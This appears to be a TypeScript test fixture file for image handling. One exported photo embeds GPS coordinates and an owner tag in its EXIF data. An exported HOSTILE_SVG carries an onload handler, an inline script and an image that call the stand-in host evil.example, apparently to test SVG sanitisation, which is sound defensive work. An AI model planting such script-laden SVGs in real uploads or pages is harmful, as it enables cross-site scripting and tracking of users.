/** Pictures for journeys, as cameras and other people make them. */
import sharp from 'sharp';

/** A photo with a position in it. */
export function photoWithPosition(background = '#1987a0'): Promise<Buffer> {
  const IFD3 = {
    GPSLatitudeRef: 'N',
    GPSLatitude: '48/1 51/1 29/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '2/1 17/1 40/1',
  };
  return sharp({ create: { width: 2400, height: 1600, channels: 3, background } })
    .withExif({ IFD0: { Copyright: 'SECRET-OWNER' }, IFD3 })
    .jpeg()
    .toBuffer();
}

/** A drawing that would run and call home, were it a document. */
export const HOSTILE_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="300" height="200" onload="top.ran=1">
  <script>top.ran = 1; fetch('https://evil.example/ran')</script>
  <image href="https://evil.example/pixel.png" width="10" height="10"/>
  <rect width="300" height="200" fill="#d94a32"/>
</svg>`;
